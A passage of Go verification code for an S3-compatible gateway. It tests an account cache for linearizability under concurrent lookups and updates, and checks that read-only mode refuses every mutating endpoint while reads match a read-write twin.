	frontier := []node{{nil}}
	states, transitions := 1, 0
	for d := 0; d < depth; d++ {
		var next []node
		for ni, nd := range frontier {
			if !r.Mine(ni) && d == depth-1 {
				// only the last (largest) level is sharded; earlier levels are cheap and needed by everyone
				continue
			}
			for oi := range alpha {
				h := append(append([]int{}, nd.hist...), oi)
				_, key, ok := replay(h)
				transitions++
				r.Add("evaluations", 1)
				if !ok {
					continue
				}
				if !seen[key] {
					seen[key] = true
					states++
					next = append(next, node{h})
				}
			}
		}
		frontier = next
	}
	r.Add("states", int64(states))
	r.Add("transitions", int64(transitions))
	for k := range seen {
		r.Distinct("bfs|" + k)
	}
	r.Outcome("bfs-done")
}

func diffClass(want, got c17Res) string {
	switch {
	case want.Err != got.Err:
		return fmt.Sprintf("expected-%s-got-%s", orOK(want.Err), orOK(ck.Short(got.Err, 30)))
	case want.Acct != got.Acct:
		var f []string
		if want.Acct.Secret != got.Acct.Secret {
			f = append(f, "secret")
		}
		if want.Acct.Role != got.Acct.Role {
			f = append(f, "role")
		}
		if want.Acct.UserID != got.Acct.UserID {
			f = append(f, "uid")
		}
		if want.Acct.GroupID != got.Acct.GroupID {
			f = append(f, "gid")
		}
		return "wrong-" + strings.Join(f, "+")
	}
	return "list-differs"
}

func orOK(s string) string {
	if s == "" {
		return "ok"
	}
	return s
}

// ---- interleavings ----------------------------------------------------------

type c17Scn struct {
	Name    string
	Init    []auth.Account
	Prime   []string // lookups done before the threads start (cache warm)
	Tick    bool     // advance the clock past the TTL after priming (entries expired)
	Threads [][]c17Op
	NoCache bool // operations go to the file-backed service directly (cache disabled)
}

func c17Scenarios(thorough bool) []c17Scn {
	u1 := auth.Account{Access: "u1", Secret: "s1", Role: auth.RoleUser, UserID: 1001, GroupID: 1002}
	u2 := auth.Account{Access: "u2", Secret: "t1", Role: auth.RoleUserPlus, UserID: 3001, GroupID: 3002}
	lk := func(a string) c17Op { return c17Op{Kind: "lookup", Access: a} }
	del := func(a string) c17Op { return c17Op{Kind: "delete", Access: a} }
	upS := c17Op{Kind: "update", Access: "u1", Secret: strp("s2")}
	upU := c17Op{Kind: "update", Access: "u1", UID: intp(2001)}
	cr := func(a auth.Account) c17Op { return c17Op{Kind: "create", Acct: a} }
	scns := []c17Scn{
		{Name: "lookup(miss)|delete", Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1")}, {del("u1")}}},
		{Name: "lookup(miss)|update-secret", Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1")}, {upS}}},
		{Name: "lookup(expired)|update-secret", Init: []auth.Account{u1}, Prime: []string{"u1"}, Tick: true, Threads: [][]c17Op{{lk("u1")}, {upS}}},
		{Name: "lookup(expired)|delete", Init: []auth.Account{u1}, Prime: []string{"u1"}, Tick: true, Threads: [][]c17Op{{lk("u1")}, {del("u1")}}},
		{Name: "lookup(hit)|update-secret", Init: []auth.Account{u1}, Prime: []string{"u1"}, Threads: [][]c17Op{{lk("u1")}, {upS}}},
		{Name: "lookup(hit)|delete", Init: []auth.Account{u1}, Prime: []string{"u1"}, Threads: [][]c17Op{{lk("u1")}, {del("u1")}}},
		{Name: "create|create same key", Init: nil, Threads: [][]c17Op{{cr(u2)}, {cr(auth.Account{Access: "u2", Secret: "zz", Role: auth.RoleAdmin})}}},
		{Name: "create|create different keys", Init: nil, Threads: [][]c17Op{{cr(u1)}, {cr(u2)}}},
		{Name: "update-secret|update-uid", Init: []auth.Account{u1}, Threads: [][]c17Op{{upS}, {upU}}},
		{Name: "update|delete", Init: []auth.Account{u1}, Threads: [][]c17Op{{upS}, {del("u1")}}},
		{Name: "create|list", Init: []auth.Account{u1}, Threads: [][]c17Op{{cr(u2)}, {{Kind: "list"}}}},
		{Name: "delete|create same key", Init: []auth.Account{u1}, Threads: [][]c17Op{{del("u1")}, {cr(auth.Account{Access: "u1", Secret: "new", Role: auth.RoleUser, UserID: 7, GroupID: 8})}}},
		{Name: "lookup(miss)|create", Init: nil, Threads: [][]c17Op{{lk("u2")}, {cr(u2)}}},
	}
	// the same mutation races without the cache in front (its fill lock serialises mutations otherwise)
	scns = append(scns,
		c17Scn{Name: "no-cache: update-secret|update-uid", NoCache: true, Init: []auth.Account{u1}, Threads: [][]c17Op{{upS}, {upU}}},
		c17Scn{Name: "no-cache: update|delete", NoCache: true, Init: []auth.Account{u1}, Threads: [][]c17Op{{upS}, {del("u1")}}},
		c17Scn{Name: "no-cache: create|create same key", NoCache: true, Init: nil, Threads: [][]c17Op{{cr(u2)}, {cr(auth.Account{Access: "u2", Secret: "zz", Role: auth.RoleAdmin})}}},
		c17Scn{Name: "no-cache: delete|create same key", NoCache: true, Init: []auth.Account{u1}, Threads: [][]c17Op{{del("u1")}, {cr(auth.Account{Access: "u1", Secret: "new", Role: auth.RoleUser, UserID: 7, GroupID: 8})}}},
		c17Scn{Name: "no-cache: lookup|update-secret", NoCache: true, Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1")}, {upS}}},
		c17Scn{Name: "no-cache: update|create other key", NoCache: true, Init: []auth.Account{u1}, Threads: [][]c17Op{{upU}, {cr(u2)}}},
	)
	if thorough {
		scns = append(scns,
			c17Scn{Name: "lookup|delete|lookup", Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1")}, {del("u1")}, {lk("u1")}}},
			c17Scn{Name: "lookup|update|update", Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1")}, {upS}, {upU}}},
			c17Scn{Name: "create|create|create", Init: nil, Threads: [][]c17Op{{cr(u1)}, {cr(u2)}, {cr(auth.Account{Access: "u3", Secret: "x", Role: auth.RoleUser})}}},
			c17Scn{Name: "lookup,lookup|delete", Init: []auth.Account{u1}, Threads: [][]c17Op{{lk("u1"), lk("u1")}, {del("u1")}}},
		)
	}
	return scns
}

type c17In struct {
	Op c17Op
}

func c17PorcupineModel(init c17Model) porcupine.Model {
	return porcupine.Model{
		Init: func() interface{} { return init.key() + "\x00" + encModel(init) },
		Step: func(state, input, output interface{}) (bool, interface{}) {
			m := decModel(state.(string))
			want := m.step(input.(c17Op))
			return resEq(want, output.(c17Res)), m.key() + "\x00" + encModel(m)
		},
		Equal: func(a, b interface{}) bool { return a.(string) == b.(string) },
	}
}

func encModel(m c17Model) string { b, _ := json.Marshal(m); return string(b) }
func decModel(s string) c17Model {
	_, js, _ := strings.Cut(s, "\x00")
	m := c17Model{}
	json.Unmarshal([]byte(js), &m)
	return m
}

func c17Interleavings(r *ck.Run, st *c17Store, scn c17Scn, bound int) {
	type rec struct {
		Thread    int
		Op        c17Op
		Res       c17Res
		Call, Ret int64
	}
	var recs []*rec
	var ev int64
	init := c17Model{}
	for _, a := range scn.Init {
		init[a.Access] = a
	}
	setup := func() []func() {
		st.Direct = false
		st.reset(scn.Init...)
		st.Direct = scn.NoCache
		for _, a := range scn.Prime {
			st.apply(c17Op{Kind: "lookup", Access: a})
		}
		if scn.Tick {
			vtime.Advance(c17TTL + time.Second)
		}
		recs, ev = nil, 0
		var bodies []func()
		for ti, th := range scn.Threads {
			ti, th := ti, th
			bodies = append(bodies, func() {
				for _, op := range th {
					rc := &rec{Thread: ti, Op: op}
					ev++
					rc.Call = ev
					rc.Res = st.apply(op)
					ev++
					rc.Ret = ev
					recs = append(recs, rc)
				}
			})
		}
		return bodies
	}
	check := func(x *sched.Exec) {
		r.Add("evaluations", 1)
		r.Add("transitions", int64(len(x.Points)))
		r.Distinct(fmt.Sprintf("sched|%s|%v", scn.Name, x.Choices))
		detail := func(what string) map[string]any {
			var trace, hist []string
			for i, p := range x.Points {
				trace = append(trace, fmt.Sprintf("%d T%d %s", i, p.Thread, sched.Canon(strings.ReplaceAll(p.Label, st.Dir, "<iam>"))))
			}
			for _, rc := range recs {
				hist = append(hist, fmt.Sprintf("T%d %s -> %+v [%d,%d]", rc.Thread, rc.Op, rc.Res, rc.Call, rc.Ret))
			}
			return map[string]any{"scenario": scn.Name, "what": what, "choices": x.Choices, "schedule": trace, "history": hist, "preemption_bound": bound}
		}
		if x.Deadlock || x.Horizon || len(x.Panics) > 0 {
			r.Violation(ck.JoinSig("schedule", scn.Name, fmt.Sprintf("deadlock=%v horizon=%v panics=%d", x.Deadlock, x.Horizon, len(x.Panics))), detail(fmt.Sprint(x.Panics)))
			return
		}
		var ops []porcupine.Operation
		out := ""
		for _, rc := range recs {
			ops = append(ops, porcupine.Operation{ClientId: rc.Thread, Input: rc.Op, Call: rc.Call, Output: rc.Res, Return: rc.Ret})
			out += fmt.Sprintf("%s:%s ", rc.Op.Kind, orOK(rc.Res.Err))
			if strings.HasPrefix(rc.Res.Err, "ERR:") {
				r.Violation(ck.JoinSig("schedule", scn.Name, rc.Op.Kind+"-failed", ck.Short(rc.Res.Err, 60)), detail(rc.Res.Err))
				return
			}
		}
		// quiescent observations after every thread finished: one lookup per key through the cache, and the file
		t := ev
		for _, a := range []string{"u1", "u2", "u3"} {
			res := st.apply(c17Op{Kind: "lookup", Access: a})
			t += 2
			ops = append(ops, porcupine.Operation{ClientId: 7, Input: c17Op{Kind: "lookup", Access: a}, Call: t, Output: res, Return: t + 1})
			out += fmt.Sprintf("final(%s)=%s/%s ", a, orOK(res.Err), res.Acct.Secret)
		}
		r.Outcome(scn.Name + " " + out)
		if !porcupine.CheckOperations(c17PorcupineModel(init), ops) {
			// classify: do the concurrent operations alone linearize? then the quiescent lookups disagree (stale cache)
			kind := "operations-not-linearizable"
			if porcupine.CheckOperations(c17PorcupineModel(init), ops[:len(recs)]) {
				kind = "quiescent-lookup-disagrees-with-acknowledged-state"
			}
			r.Violation(ck.JoinSig("schedule", scn.Name, kind), detail(out))
			return
		}
		fa, err := st.fileAccounts()
		if err != nil {
			r.Violation(ck.JoinSig("schedule", scn.Name, "account-store-corrupt"), detail(err.Error()))
			return
		}
		// the file must equal the state some linearization ends in: compare with the quiescent lookups
		for _, a := range []string{"u1", "u2", "u3"} {
			res := st.apply(c17Op{Kind: "lookup", Access: a})
			fa1, ok := fa[a]
			if (res.Err == "") != ok || (ok && fa1 != res.Acct) {
				r.Violation(ck.JoinSig("schedule", scn.Name, "account-store-differs-from-lookups"), detail(fmt.Sprintf("file=%+v lookup=%+v", fa1, res)))
				return
			}
		}
	}
	ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
	if r.IsWorker() {
		ex.Mine = func(k int) bool { return r.Mine(k) }
	}
	ex.Explore()
	r.Add("schedules", ex.Execs)
	r.Add("execs "+scn.Name, ex.Execs)
}

func C17(r *ck.Run) {
	requireInstrumented()
	depth, bound := 4, 2
	if r.Thorough() {
		depth, bound = 5, 3
	}
	r.Rule(fmt.Sprintf("(a) breadth-first search over every history of length <= %d of 13 operations (create / update secret,uid,gid / delete / lookup / list / advance-clock-past-TTL on 2 access keys) on a real IAMCache over a real file-backed IAMServiceInternal, states deduplicated on (reference map, users.json, cache contents); (b) every interleaving with <= %d preemptions of 2-3 logical threads running lookups (cache miss, expired, hit) against concurrent delete / update / create, and concurrent admin mutations (also with the cache disabled, straight on the file-backed service), checked for linearizability including quiescent lookups afterwards and the integrity of users.json; (c) end-to-end slice through HTTP; distinct = distinct state / schedule", depth, bound))
	r.Assume("single file-system calls are atomic; the cache TTL is driven by a harness-owned clock (vtime); one gateway process (the statement is about changes through one gateway)")
	scns := c17Scenarios(r.Thorough())
	r.Sharded(16, func() {
		st := newC17Store()
		defer st.Close()
		c17BFS(r, st, depth)
		for _, scn := range scns {
			b := bound
			if len(scn.Threads) > 2 {
				b = bound - 1
			}
			c17Interleavings(r, st, scn, b)
		}
	})
	if !r.IsWorker() {
		c17HTTP(r)
	}
}

// c17HTTP: admin calls followed immediately by signed requests; also the cache must not grow with traffic.
func c17HTTP(r *ck.Run) {
	w := NewWorld("c17", gw.Opts{ChownUID: true, ChownGID: true})
	defer w.Close()
	f := w.F
	nu := gw.Creds{Access: "newacct", Secret: "newacctsecret00000"}
	step := func(name string, ok bool, det any) {
		r.Add("evaluations", 1)
		r.Distinct("http|" + name)
		r.Outcome("http:" + name + fmt.Sprint(ok))
		if !ok {
			r.Violation(ck.JoinSig("http", name), det)
		}
	}
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(nu, "userplus", 4321, 8765)), "create newacct")
	resp := f.Do(nu, "PUT", "/nu-bucket", "", nil, nil)
	step("new-account-usable-at-once", resp.OK(), resp.String())
	resp = f.Put(nu, "nu-bucket", "o1", []byte("data"))
	step("new-account-can-put", resp.OK(), resp.String())
	uid, gid := fileOwner(filepath.Join(f.G.Root, "nu-bucket", "o1"))
	step("object-owned-by-account-uid-gid-right-after-create", uid == 4321 && gid == 8765, fmt.Sprintf("uid=%d gid=%d, expected 4321/8765 (account created through the admin API just before)", uid, gid))
	// update secret
	Must(f.Do(gw.Root, "PATCH", "/update-user", "access=newacct", nil, []byte("<MutableProps><Secret>changedsecret000000</Secret></MutableProps>")), "update secret")
	resp = f.Get(nu, "nu-bucket", "o1")
	step("old-secret-rejected-after-update", resp.Status == 403, resp.String())
	nu2 := gw.Creds{Access: "newacct", Secret: "changedsecret000000"}
	resp = f.Get(nu2, "nu-bucket", "o1")
	step("new-secret-accepted-after-update", resp.OK(), resp.String())
	// update uid
	Must(f.Do(gw.Root, "PATCH", "/update-user", "access=newacct", nil, []byte("<MutableProps><UserID>5555</UserID></MutableProps>")), "update uid")
	Must(f.Put(nu2, "nu-bucket", "o2", []byte("data2")), "put o2")
	uid, _ = fileOwner(filepath.Join(f.G.Root, "nu-bucket", "o2"))
	step("object-owned-by-updated-uid", uid == 5555, fmt.Sprintf("uid=%d expected 5555", uid))
	// delete
	Must(f.Do(gw.Root, "PATCH", "/delete-user", "access=newacct", nil, nil), "delete user")
	resp = f.Get(nu2, "nu-bucket", "o1")
	step("deleted-account-rejected", resp.Status == 403, resp.String())
	// traffic by several accounts must not make the cache lose or duplicate entries (keys must not alias request buffers)
	// restart first: the cache is cold, so every account enters it through the lookup-miss path
	f.Restart()
	cache, ok := f.G.IAM.(*auth.IAMCache)
	if ok {
		st := &c17Store{Cache: cache}
		users := []gw.Creds{cUsr1, cUsr2, cUsr3, cAdm, cUp}
		for i := 0; i < 60; i++ {
			f.Head(users[i%len(users)], w.Bucket, w.Key)
			f.Do(users[(i*3)%len(users)], "GET", "/"+w.Bucket, gw.Q("prefix", strings.Repeat("p", i%17)), nil, nil)
		}
		n := st.cacheLen()
		step("cache-holds-one-entry-per-account", n <= len(users)+2, fmt.Sprintf("cache has %d entries after 120 requests by %d accounts: %s", n, len(users), st.cacheDump()))
		// and every entry must be the account it is filed under
		bad := c17Misfiled(cache)
		step("cache-entries-filed-under-their-own-access-key", bad == "", bad)
	}
	c17HTTPUpdates(r)
	r.Sample(map[string]any{"http_steps": "create → use at once (uid/gid) → update secret → old rejected/new accepted → update uid → delete → rejected; cache size after mixed traffic"})
}

// c17Misfiled lists the cache entries whose account is not the one they are filed under.
func c17Misfiled(cache *auth.IAMCache) string {
	st := &c17Store{Cache: cache}
	bad := ""
	items := st.cacheItems()
	it := items.MapRange()
	for it.Next() {
		k, v := it.Key(), it.Value()
		cp := reflect.New(v.Type()).Elem()
		cp.Set(v)
		val := cp.FieldByName("value")
		acct := reflect.NewAt(val.Type(), unsafe.Pointer(val.UnsafeAddr())).Elem().Interface().(auth.Account)
		if acct.Access != k.String() {
			bad += fmt.Sprintf("%q->%q ", k.String(), acct.Access)
		}
		// a key whose bytes changed after it was inserted can no longer be looked up
		if !items.MapIndex(reflect.ValueOf(strings.Clone(k.String()))).IsValid() {
			bad += fmt.Sprintf("%q-cannot-be-looked-up ", k.String())
		}
	}
	return bad
}

// c17HTTPUpdates: every sequence of <= 3 update-user calls (new secret / new user id) on three accounts of three
// roles through the admin API over HTTP, each followed by signed requests of all three accounts: every account
// authenticates with its current secret only, keeps its own role, and the cache files it under its own access key
// (the access key reaches the cache as a string over the server's request buffer, which later requests overwrite).
func c17HTTPUpdates(r *ck.Run) {
	type acct struct {
		Access, Role string
	}
	accts := []acct{{"alice", "admin"}, {"bobby", "user"}, {"carol", "userplus"}}
	type upd struct {
		Who  int
		Kind string // secret | uid
	}
	var alpha []upd
	for i := range accts {
		alpha = append(alpha, upd{i, "secret"}, upd{i, "uid"})
	}
	var seqs [][]int
	var gen func(cur []int)
	gen = func(cur []int) {
		if len(cur) > 0 {
			seqs = append(seqs, append([]int{}, cur...))
		}
		if len(cur) == 3 {
			return
		}
		for i := range alpha {
			gen(append(cur, i))
		}
	}
	gen(nil)
	f := NewFx("c17u", gw.Opts{})
	defer f.Close()
	Must(f.CreateBucket(gw.Root, "ubk"), "create bucket")
	for si, seq := range seqs {
		secrets := map[string]string{}
		for _, a := range accts {
			f.Do(gw.Root, "PATCH", "/delete-user", "access="+a.Access, nil, nil)
			secrets[a.Access] = a.Access + "-first-secret-000"
			Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(gw.Creds{Access: a.Access, Secret: secrets[a.Access]}, a.Role, 1000, 1000)), "create "+a.Access)
		}
		var names []string
		old := map[string]string{}
		for n, ui := range seq {
			u := alpha[ui]
			a := accts[u.Who]
			names = append(names, u.Kind+"("+a.Access+")")
			body := fmt.Sprintf("<MutableProps><UserID>%d</UserID></MutableProps>", 2000+n)
			if u.Kind == "secret" {
				old[a.Access] = secrets[a.Access]
				secrets[a.Access] = fmt.Sprintf("%s-secret-no-%d-0000000", a.Access, n)
				body = "<MutableProps><Secret>" + secrets[a.Access] + "</Secret></MutableProps>"
			}
			Must(f.Do(gw.Root, "PATCH", "/update-user", "access="+a.Access, nil, []byte(body)), "update "+a.Access)
			// traffic in between: the request buffers are reused and overwritten
			f.Do(gw.Creds{Access: accts[(u.Who+1)%3].Access, Secret: secrets[accts[(u.Who+1)%3].Access]}, "GET", "/ubk", gw.Q("prefix", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"), nil, nil)
		}
		r.Distinct(fmt.Sprintf("http-updates|%v", seq))
		var an []string
		for _, a := range accts {
			cur := gw.Creds{Access: a.Access, Secret: secrets[a.Access]}
			resp := f.Do(cur, "PATCH", "/list-users", "", nil, nil)
			r.Add("evaluations", 1)
			code := resp.ErrCode()
			if code == "SignatureDoesNotMatch" || code == "InvalidAccessKeyId" {
				an = append(an, "current-secret-rejected")
			}
			if a.Role == "admin" && !resp.OK() {
				an = append(an, "admin-lost-its-role")
			}
			if a.Role != "admin" && resp.OK() {
				an = append(an, "account-acts-with-another-accounts-role")
			}
			if o := old[a.Access]; o != "" {
				resp := f.Do(gw.Creds{Access: a.Access, Secret: o}, "GET", "/ubk", "", nil, nil)
				r.Add("evaluations", 1)
				if resp.Status != 403 {
					an = append(an, "replaced-secret-still-accepted")
				}
			}
		}
		if cache, ok := f.G.IAM.(*auth.IAMCache); ok {
			if bad := c17Misfiled(cache); bad != "" {
				an = append(an, "cache-entry-filed-under-another-access-key")
			}
		}
		r.Outcome(fmt.Sprintf("http-updates:%d", len(an)))
		if len(an) > 0 {
			r.Violation(ck.JoinSig("http-updates", strings.Join(dedup(an), "+")), map[string]any{"sequence": names, "index": si})
		}
	}
}
