package checks

import (
	"bytes"
	"fmt"
	"time"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C15"] = C15 }

// C15: endpoint × caller × target state on a read-only gateway, with a
// read-write twin on an identically populated storage for the "reads keep working" half.
// c15Modifiers: optional request headers that s3api/controllers reads (one is added to the valid request of
// every mutating endpoint).
var c15Modifiers = [][2]string{
	{"x-amz-bypass-governance-retention", "true"}, {"x-amz-acl", "public-read-write"}, {"x-amz-grant-full-control", "usr3"}, {"x-amz-grant-write", "usr3"},
	{"x-amz-object-lock-legal-hold", "ON"}, {"x-amz-tagging", "a=b"}, {"x-amz-metadata-directive", "REPLACE"}, {"x-amz-tagging-directive", "REPLACE"},
	{"x-amz-expected-bucket-owner", "usr1"}, {"x-amz-mfa", "123 456"}, {"x-amz-request-payer", "requester"}, {"x-amz-object-ownership", "BucketOwnerPreferred"},
	{"x-amz-bucket-object-lock-enabled", "true"}, {"x-amz-storage-class", "STANDARD"}, {"x-amz-checksum-algorithm", "CRC32"}, {"x-amz-sdk-checksum-algorithm", "CRC32"},
	{"x-amz-copy-source-if-match", "*"}, {"x-amz-mp-object-size", "0"}, {"content-type", "application/x-directory"}, {"if-match", "*"}, {"if-none-match", "*"},
}

func C15(r *ck.Run) {
	r.Rule("every endpoint shape of the S3 API table × caller role (root, admin, userplus, owner, policy grantee, ACL grantee) × storage configuration on a gateway started with the read-only switch; mutating endpoints must be refused with the storage byte-identical, non-mutating ones must answer like the read-write twin; plus DELETE / tagging changes that name a version id (null, stored versions); plus every mutating endpoint with one of 21 optional request headers added (bypass-governance, canned ACL and grants, lock, tagging, directives, expected owner, checksum algorithm, conditionals); distinct = (config, endpoint, caller, path form)")
	r.Assume("account management through the admin API (PATCH /create-user ...) does not touch what is stored for buckets and is excluded; change-bucket-owner, which is served on the same listener and rewrites a bucket's ACL, is included; a non-mutating request is compared by status, error code and (GetObject) body")
	cfgs := []gw.Opts{{}, {Versioning: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{Sidecar: true}, gw.Opts{NoTmpFile: true, Versioning: true})
	}
	callers := []gw.Creds{gw.Root, cAdm, cUp, cUsr1, cUsr3, cUsr2}
	eps := Endpoints()
	r.Sharded(16, func() {
		idx := 0
		for cj := 0; cj < 2*len(cfgs); cj++ {
			ci, cfg, withPolicy := cj, cfgs[cj/2], cj%2 == 0
			build := func(ro bool) *World {
				w := NewWorld("c15", cfg)
				if cfg.Versioning {
					// history that only time produces: a retention period that has run out when the reads arrive
					until := time.Now().Add(1200 * time.Millisecond).UTC().Format("2006-01-02T15:04:05.000Z")
					Must(w.F.Do(gw.Root, "PUT", gw.ObjPath(w.LockBkt, "locked"), "retention", nil, []byte("<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>"+until+"</RetainUntilDate></Retention>")), "short retention")
					time.Sleep(1300 * time.Millisecond)
				}
				if !withPolicy {
					// access by ACL only: owner usr1 has FULL_CONTROL, usr3 gets WRITE+READ grants
					Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "acl", H("x-amz-grant-write", "usr3", "x-amz-grant-read", "usr3"), nil), "grant acl")
					if ro {
						w.F.G.Opts.ReadOnly = true
						w.F.Restart()
					}
					return w
				}
				pol := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":["usr3"],"Action":"s3:*","Resource":["arn:aws:s3:::%s","arn:aws:s3:::%s/*"]}]}`, w.Bucket, w.Bucket)
				Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "policy", nil, []byte(pol)), "put policy")
				if ro {
					w.F.G.Opts.ReadOnly = true
					w.F.Restart()
				}
				return w
			}
			// the read-write twin is a second gateway "process" on the SAME storage (the posix
			// backend chdir()s, so one process can only host one root): non-mutating requests
			// leave the storage alone, so it gives the reference answer for reads
			ro := build(true)
			twin := func() *gw.GW {
				o := ro.F.G.Opts
				o.ReadOnly = false
				g, err := gw.New(o)
				if err != nil {
					ck.Fatal("twin: %v", err)
				}
				return g
			}
			rw := twin()
			base := ro.F.G.Snapshot(gw.SnapOpts{})
			for ei := range eps {
				ep := &eps[ei]
				if (ep.Level == "admin" && ep.ID != "AdminChangeBucketOwner") || !ep.Applicable(ro) {
					continue
				}
				for _, c := range callers {
					idx++
					if !r.Mine(idx) {
						continue
					}
					valid := ep.Build(ro, "")
					for _, pv := range c02PathVariants(ep, valid) {
						req := valid.Clone()
						req.Path = pv.Path
						gw.Sign(req, c, gw.SignOpts{})
						resp := ro.F.G.Do(req)
						r.Add("evaluations", 1)
						r.Distinct(fmt.Sprintf("%d|%s|%s|%s", ci, ep.ID, c.Access, pv.Name))
						r.Outcome(fmt.Sprintf("mut=%v:%d", ep.Mutating, resp.Status/100))
						after := ro.F.G.Snapshot(gw.SnapOpts{})
						diff := base.Diff(after, 6)
						det := map[string]any{"config": fmt.Sprintf("%+v", cfg), "endpoint": ep.ID, "caller": c.Access, "path_form": pv.Name,
							"request": req.String(), "response": resp.String(), "state_diff": diff}
						role := roleOf(c)
						if len(diff) > 0 {
							r.Violation(ck.JoinSig(ep.ID, pv.Name, role, "state-changed-in-read-only-mode"), det)
							rw.Close()
							ro.Close()
							ro = build(true)
							rw = twin()
							base = ro.F.G.Snapshot(gw.SnapOpts{})
						} else if ep.Mutating && (resp.Err != nil || resp.Status < 400) {
							r.Violation(ck.JoinSig(ep.ID, pv.Name, role, fmt.Sprintf("mutating-request-answered-%d", resp.Status)), det)
						}
						if !ep.Mutating {
							// twin comparison
							treq := valid.Clone()
							treq.Path = pv.Path
							gw.Sign(treq, c, gw.SignOpts{})
							tresp := rw.Do(treq)
							same := resp.Status == tresp.Status && resp.ErrCode() == tresp.ErrCode()
							if same && ep.ID == "GetObject" {
								same = bytes.Equal(resp.Body, tresp.Body)
							}
							if !same {
								det["twin_response"] = tresp.String()
								r.Violation(ck.JoinSig(ep.ID, pv.Name, role, "read-differs-from-read-write-twin"), det)
							}
							if d2 := base.Diff(ro.F.G.Snapshot(gw.SnapOpts{}), 3); len(d2) > 0 {
								ck.Fatal("endpoint %s is marked non-mutating but changed the storage through the read-write twin: %v", ep.ID, d2)
							}
						}
						if ep.ID == "PutObject" && c == gw.Root && ci == 0 {
							r.Sample(map[string]any{"endpoint": ep.ID, "caller": c.Access, "status": resp.Status, "code": resp.ErrCode()})
						}
					}
					// every mutating endpoint again with ONE optional request header the controllers branch on
					// (a header can move a request onto another code path or another permission class)
					if ep.Mutating {
						for _, mod := range c15Modifiers {
							req := valid.Clone()
							if req.Get(mod[0]) != "" {
								continue
							}
							req.Set(mod[0], mod[1])
							gw.Sign(req, c, gw.SignOpts{})
							resp := ro.F.G.Do(req)
							r.Add("evaluations", 1)
							r.Distinct(fmt.Sprintf("%d|%s|%s|hdr:%s", ci, ep.ID, c.Access, mod[0]))
							r.Outcome(fmt.Sprintf("mut+header:%d", resp.Status/100))
							after := ro.F.G.Snapshot(gw.SnapOpts{})
							diff := base.Diff(after, 6)
							det := map[string]any{"config": fmt.Sprintf("%+v", cfg), "endpoint": ep.ID, "caller": c.Access, "added_header": mod[0] + ": " + mod[1],
								"request": req.String(), "response": resp.String(), "state_diff": diff}
							if len(diff) > 0 {
								r.Violation(ck.JoinSig(ep.ID, "with-header "+mod[0], roleOf(c), "state-changed-in-read-only-mode"), det)
								rw.Close()
								ro.Close()
								ro = build(true)
								rw = twin()
								base = ro.F.G.Snapshot(gw.SnapOpts{})
							} else if resp.Err != nil || resp.Status < 400 {
								r.Violation(ck.JoinSig(ep.ID, "with-header "+mod[0], roleOf(c), fmt.Sprintf("mutating-request-answered-%d", resp.Status)), det)
							}
						}
					}
				}
			}
			// reads of the object whose retention period has run out (HEAD, GET, attributes, retention, legal hold)
			if cfg.Versioning && r.Mine(idx+1) {
				for _, c := range []gw.Creds{gw.Root, cUsr1} {
					for _, rd := range []struct{ m, q string }{{"HEAD", ""}, {"GET", ""}, {"GET", "retention"}, {"GET", "legal-hold"}, {"GET", "attributes"}, {"GET", "tagging"}} {
						req := NewReq(rd.m, gw.ObjPath(ro.LockBkt, "locked"), rd.q, nil, nil)
						if rd.q == "attributes" {
							req.Set("x-amz-object-attributes", "ETag,ObjectSize")
						}
						gw.Sign(req, c, gw.SignOpts{})
						resp := ro.F.G.Do(req)
						r.Add("evaluations", 1)
						r.Distinct(fmt.Sprintf("%d|expired-retention|%s|%s|%s", ci, rd.m, rd.q, c.Access))
						if diff := base.Diff(ro.F.G.Snapshot(gw.SnapOpts{}), 6); len(diff) > 0 {
							r.Violation(ck.JoinSig("read-of-object-with-expired-retention", rd.m+" "+rd.q, roleOf(c), "state-changed-in-read-only-mode"), map[string]any{"config": fmt.Sprintf("%+v", cfg), "request": req.String(), "response": resp.String(), "state_diff": diff})
							base = ro.F.G.Snapshot(gw.SnapOpts{})
						}
					}
				}
			}
			// requests that name a version: DELETE / tagging / retention changes by version id (the null version, and a
			// stored version where the gateway keeps versions)
			if r.Mine(idx + 2) {
				vids := []string{"null"}
				if cfg.Versioning {
					lv := rw.Do(func() *gw.Req {
						q := NewReq("GET", "/"+ro.LockBkt, "versions", nil, nil)
						gw.Sign(q, gw.Root, gw.SignOpts{})
						return q
					}())
					vids = append(vids, xmlAll(lv.Body, "VersionId")...)
				}
				for _, c := range callers {
					for _, vid := range vids {
						for _, t := range []struct {
							name, method, bucket, key, q string
							body                         []byte
						}{
							{"DeleteObject-by-version", "DELETE", ro.Bucket, ro.Key, "", nil},
							{"DeleteObject-by-version-lock-bucket", "DELETE", ro.LockBkt, "locked", "", nil},
							{"PutObjectTagging-by-version", "PUT", ro.Bucket, ro.Key, "tagging", []byte("<Tagging><TagSet><Tag><Key>ro</Key><Value>x</Value></Tag></TagSet></Tagging>")},
							{"DeleteObjectTagging-by-version", "DELETE", ro.Bucket, ro.Key, "tagging", nil},
						} {
							if t.bucket == ro.LockBkt && !cfg.Versioning {
								continue
							}
							q := gw.Q("versionId", vid)
							if t.q != "" {
								q = t.q + "&" + q
							}
							req := NewReq(t.method, gw.ObjPath(t.bucket, t.key), q, nil, t.body)
							gw.Sign(req, c, gw.SignOpts{})
							resp := ro.F.G.Do(req)
							r.Add("evaluations", 1)
							r.Distinct(fmt.Sprintf("%d|by-version|%s|%s|%s", ci, t.name, verClass(vid), c.Access))
							det := map[string]any{"config": fmt.Sprintf("%+v", cfg), "caller": c.Access, "request": req.String(), "response": resp.String()}
							if diff := base.Diff(ro.F.G.Snapshot(gw.SnapOpts{}), 6); len(diff) > 0 {
								det["state_diff"] = diff
								r.Violation(ck.JoinSig(t.name, verClass(vid), roleOf(c), "state-changed-in-read-only-mode"), det)
								rw.Close()
								ro.Close()
